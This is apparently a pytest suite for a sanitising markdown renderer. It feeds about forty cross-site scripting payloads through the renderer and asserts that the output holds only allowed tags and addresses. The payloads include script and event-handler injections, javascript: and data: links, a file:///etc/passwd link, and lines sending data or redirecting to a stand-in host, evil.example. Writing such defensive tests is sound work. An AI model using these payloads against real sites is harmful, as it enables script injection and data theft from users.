import re
from html.parser import HTMLParser

import pytest

from arena.services.rendering import LONGEST_TEXT, TAGS, normalise_text, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<a href='x' style='position:fixed'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<p id=getElementById name=cookie>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example "a" onclick=alert(1))',
    '[a](https://x"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://x" target=_top rel=opener>x</a>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<xss onclick=alert(1)>",
    "<link rel=stylesheet href=https://evil.example>",
    "<object data=x></object><embed src=x>",
]


class Strict(HTMLParser):
    """Fails on any tag, attribute or address that is not on the list."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert (tag, name) in {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}, (tag, name)
            if name == "href":
                assert re.match(r"(https?|mailto):", value) or not re.match(r"[\w+.-]*:", value), value

    def handle_comment(self, data):
        raise AssertionError(f"A comment: {data}")

    handle_decl = handle_pi = handle_comment


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_becomes_harmless(attack):
    for text in (attack, f"> {attack}", f"- {attack}", f"*{attack}*", f"a\n\n{attack}\n\nb"):
        Strict(convert_charrefs=True).feed(render_markdown(text))


def test_markdown_looks_as_it_was_meant():
    shown = render_markdown("# Title\n\n**bold** `code`\n\n1. one\n2. two\n\n|a|b|\n|-|-|\n|1|2|\n")

    for part in ("<h3>Title</h3>", "<strong>bold</strong>", "<code>code</code>", "<ol>", "<td>2</td>"):
        assert part in shown


def test_headings_stay_below_those_of_the_page():
    shown = render_markdown("\n\n".join(f"{'#' * level} h" for level in range(1, 7)))

    assert re.findall(r"<h(\d)>", shown) == ["3", "4", "5", "6", "6", "6"]


def test_links_lead_away_without_a_trace():
    shown = render_markdown("[x](https://example.org) <mailto:a@example.org>")

    assert shown.count('rel="nofollow noopener noreferrer ugc"') == 2
    assert 'href="https://example.org"' in shown


def test_an_image_is_told_in_words_and_not_fetched():
    shown = render_markdown("see ![a cat](https://example.org/cat.png) and ![](x.png)")

    assert shown == "<p>see [image: a cat] and [image]</p>\n"


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("a\r\nb\rc", "a\nb\nc"),
        ("a\x00b\x07c\x9bd", "abcd"),
        ("tab\there", "tab\there"),
        ("left\u202eright\u2066x", "leftrightx"),
        ("half \ud83d a character", "half  a character"),
        ("a" + "\u0301" * 50, "a" + "\u0301" * 8),
        ("  around  ", "around"),
        ("שלום\u200f family 👨‍👩‍👧", "שלום\u200f family 👨‍👩‍👧"),
    ],
)
def test_text_is_cleaned_of_what_cannot_be_shown(text, clean):
    assert normalise_text(text) == clean
    assert normalise_text(clean) == clean  # once is enough


def test_endless_text_is_cut_and_says_so():
    cut = normalise_text("é" * 10_000_000)

    assert len(cut.encode()) <= LONGEST_TEXT
    assert cut.endswith("longer than 256 KiB.]")
    assert "\ufffd" not in cut


@pytest.mark.parametrize(
    "text",
    [
        "`" * 10**6,
        ">" * 10**5,
        "- " * 10**5,
        "[" * 10**5,
        "[a](" * 50_000,
        "*a" * 10**5,
        "|a" * 50_000,
        "<" * 10**6,
    ],
)
def test_text_made_to_exhaust_the_reader_is_shown_as_it_is(text):
    shown = render_markdown(text)

    assert shown.startswith("<pre>")
    Strict(convert_charrefs=True).feed(shown)
